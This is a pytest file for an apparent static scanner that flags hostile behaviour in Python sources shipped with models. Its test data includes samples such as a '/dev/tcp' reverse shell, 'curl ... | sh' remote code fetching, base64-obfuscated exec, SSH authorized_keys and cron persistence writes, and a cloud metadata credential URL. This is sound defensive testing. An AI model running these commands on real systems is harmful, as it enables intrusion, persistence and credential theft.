"""Python sources: what serves a model is left alone; what hides, downloads or hands away is told. Nothing is run."""

from __future__ import annotations

import pytest

from modelkeep.engines.artifacts.code.python import doings

ORDINARY = [
    "import json, os\nimport torch\n\ndef model_fn(d):\n    return torch.jit.load(os.path.join(d, 'model.pt'))\n",
    "import joblib\ndef model_fn(d):\n    return joblib.load(f'{d}/model.joblib')\n",
    "def f(path):\n    with open(path, 'w') as out:\n        out.write('x')\n",
    "import re\nP = re.compile('x')\n",
    "import boto3\ns3 = boto3.client('s3')\ns3.download_file('b', 'k', '/tmp/k')\n",
    "text = 'os.system and eval(base64) are words here'\n",
    "import base64\ndef f(b):\n    return base64.b64decode(b)\n",
    "model.eval()\ndf.eval('a + b')\n",
    "import os\nos.environ['X'] = '1'\nos.makedirs('/tmp/x', exist_ok=True)\n",
    "x = [1, 2, 3][::-1]\n",
    "import os\nos.dup2(os.open(os.devnull, os.O_RDWR), 0)\n",
]
TOLD = [
    ("import base64\nexec(base64.b64decode('aWQ='))", "python-hidden-code", "critical", False),
    (
        "import base64 as b, zlib\ncode = zlib.decompress(b.b64decode(X))\ndef f():\n    exec(code)",
        "python-hidden-code",
        "critical",
        False,
    ),
    ("from builtins import exec as run\nrun(bytes.fromhex('00'))", "python-hidden-code", "critical", False),
    ("import marshal\nexec(marshal.loads(DATA))", "python-hidden-code", "critical", False),
    ("exec(''.join(chr(each) for each in [1, 2]))", "python-hidden-code", "critical", False),
    ("exec('di'[::-1])", "python-hidden-code", "critical", False),
    ("import os, base64\nos.system(base64.b64decode('aWQ=').decode())", "python-hidden-code", "critical", False),
    ("import urllib.request as u\nexec(u.urlopen('https://x.example/a').read())", "code-remote", "high", False),
    ("import os\nos.system('curl https://x.example/a | sh')", "code-remote", "high", False),
    (
        "import subprocess\nsubprocess.run('pip install git+https://x.example/a', shell=True)",
        "code-remote",
        "high",
        False,
    ),
    ("import os\nos.system('bash -i >& /dev/tcp/198.51.100.7/9 0>&1')", "code-shell", "critical", False),
    (
        "import socket, os\ns = socket.socket()\nos.dup2(s.fileno(), 0)",
        "code-shell",
        "critical",
        False,
    ),
    ("import pty, socket\ns = socket.create_connection(('x', 1))\npty.spawn('sh')", "code-shell", "critical", False),
    ("open('/root/.ssh/authorized_keys', 'a').write('k')", "python-persistence", "high", False),
    ("open('/etc/cron.d/x', mode='w')", "python-persistence", "high", False),
    ("import subprocess\nsubprocess.check_call(['pip', 'install', 'x'])", "python-process", "medium", True),
    ("getattr(__import__('os'), 'sys' + 'tem')('id')", "python-process", "medium", True),
    ("import importlib\nimportlib.import_module('os').popen('id')", "python-process", "medium", True),
    ("from os import system as s\nt = s\nt('id')", "python-process", "medium", True),
    ("import sys\nsys.modules['os'].system('id')", "python-process", "medium", True),
    ("import os\nos.__dict__['system']('id')", "python-process", "medium", True),
    ("def f(x):\n    return eval(x)", "python-computed-code", "medium", True),
    ("exec('x = 1')", "python-computed-code", "low", True),
    ("import types, marshal\nf = types.FunctionType(c, {})", "python-computed-code", "medium", True),
    ("import ctypes\nctypes.CDLL('x.so')", "python-native-code", "medium", True),
    ("import torch\ntorch.ops.load_library('x.so')", "python-native-code", "medium", True),
    ("U = 'http://169.254.169.254/latest/meta-data/'", "python-credentials", "medium", True),
    ("import requests\nrequests.post('https://x.example', data=d)", "python-network", "low", True),
]


@pytest.mark.parametrize("source", ORDINARY)
def test_what_serves_a_model_is_not_told(source: str) -> None:
    assert doings(source) == []


@pytest.mark.parametrize(("source", "rule", "severity", "review"), TOLD)
def test_what_a_person_should_know_is_told(source: str, rule: str, severity: str, review: bool) -> None:
    told = {each.rule.id: each for each in doings(source)}
    assert rule in told
    assert ((told[rule].severity or told[rule].rule.severity).value, told[rule].review) == (severity, review)


def test_when_it_happens_is_told() -> None:
    source = "import os\nos.system('a')\ndef serve():\n    os.system('b')\n"
    assert [(each.line, each.message) for each in doings(source)] == [
        (2, "calls os.system when it is imported"),
        (4, "calls os.system when serve is called"),
    ]


@pytest.mark.parametrize("source", ["print 'two'", "x = (", "\0", b"# coding: nothing\n"])
def test_what_is_no_python_is_said(source: str | bytes) -> None:
    with pytest.raises((SyntaxError, ValueError)):
        doings(source)
